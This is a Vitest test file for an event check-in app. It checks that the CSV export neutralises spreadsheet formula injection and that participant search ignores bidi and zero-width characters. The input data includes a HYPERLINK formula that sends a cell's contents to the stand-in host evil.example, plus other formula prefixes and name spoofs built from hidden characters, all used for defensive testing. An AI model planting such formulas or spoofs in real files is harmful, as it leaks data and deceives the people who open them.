// Check-in's export and search as a door uses them: no formula runs from the exported file, and names with hidden
// characters are found by the letters people see.
import { describe, expect, it } from 'vitest'
import type { Participant } from '../../../shared/api'
import { csvCell } from '../../../shared/text/csv'
import { indexParticipants, search, toCsv } from './checkin-search'

const person = (id: string, name: string, extra: Partial<Participant> = {}) =>
  ({
    id,
    name,
    type: 'player',
    email: null,
    custom_user_identifier: null,
    checked_in: false,
    ...extra,
  }) as Participant

describe('CSV export', () => {
  it('neutralises every cell a spreadsheet would run as a formula, and keeps it readable', () => {
    const csv = toCsv([
      person('p1', '=HYPERLINK("https://evil.example/?"&D2,"Click")', { email: 'ana@example.org' }),
      person('p2', '+1+1', { custom_user_identifier: '-2+3' }),
      person('p3', '@SUM(A1)', { email: '\tcmd' }),
      person('p4', '\r=1'),
      person('p5', 'Ana Lima'),
    ])
    const cells = csv
      .trim()
      .split('\r\n')
      .slice(1)
      .flatMap((line) => line.match(/"(?:[^"]|"")*"/g) ?? [])
      .map((cell) => cell.slice(1, -1).replaceAll('""', '"'))
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&D2,""Click"")"`)
    expect(csv).toContain(`"'+1+1"`)
    expect(csv).toContain(`"'-2+3"`)
    expect(csv).toContain(`"'@SUM(A1)"`)
    expect(csv).toContain('"Ana Lima"')
    expect(csv).toContain('"ana@example.org"')
  })

  it('carries when and where each person was checked in, and starts with a byte-order mark for spreadsheets', () => {
    const csv = toCsv(
      [
        person('p1', 'نادي الرياض', { checked_in: true }),
        person('p2', '東京電脳', { checked_in: true, checked_in_at: '2026-11-22T09:15:00+00:00' }),
        person('p3', 'Kairo Frost'),
      ],
      { p1: { checkedInAt: '2026-11-22T10:02:00Z', place: 'Door 2' } },
    )
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const [header, ...lines] = csv.slice(1).trim().split('\r\n')
    expect(header).toBe('id,name,custom_user_identifier,email,checked_in,checked_in_at,checked_in_where')
    const rows = lines.map((line) => (line.match(/"(?:[^"]|"")*"/g) ?? []).map((cell) => cell.slice(1, -1)))
    expect(rows).toEqual([
      ['p1', 'نادي الرياض', '', '', 'yes', '2026-11-22T10:02:00Z', 'Door 2'],
      ['p2', '東京電脳', '', '', 'yes', '2026-11-22T09:15:00+00:00', ''],
      ['p3', 'Kairo Frost', '', '', 'no', '', ''],
    ])
  })

  it('leaves ordinary text, numbers and empty values as they are', () => {
    expect(csvCell('Jo "the Rock"')).toBe('"Jo ""the Rock"""')
    expect(csvCell(12)).toBe('"12"')
    expect(csvCell(null)).toBe('""')
    expect(csvCell('a-b = c')).toBe('"a-b = c"')
  })
})

describe('search ignores hidden characters', () => {
  it('finds a name holding bidi controls or zero-width characters by the letters shown, and by a pasted lookalike', () => {
    const index = indexParticipants([
      person('p1', 'Ka\u200Bi\u200Dro Frost'),
      person('p2', '\u202Etsorf oriaK'),
      person('p3', 'Kairo Frost'),
    ])
    expect(search(index, 'kairo', 'all').shown.map((p) => p.id)).toEqual(['p1', 'p3'])
    expect(search(index, 'tsorf', 'all').shown.map((p) => p.id)).toEqual(['p2'])
    expect(search(index, 'Kai\u2060ro', 'all').shown.map((p) => p.id)).toEqual(['p1', 'p3'])
  })
})
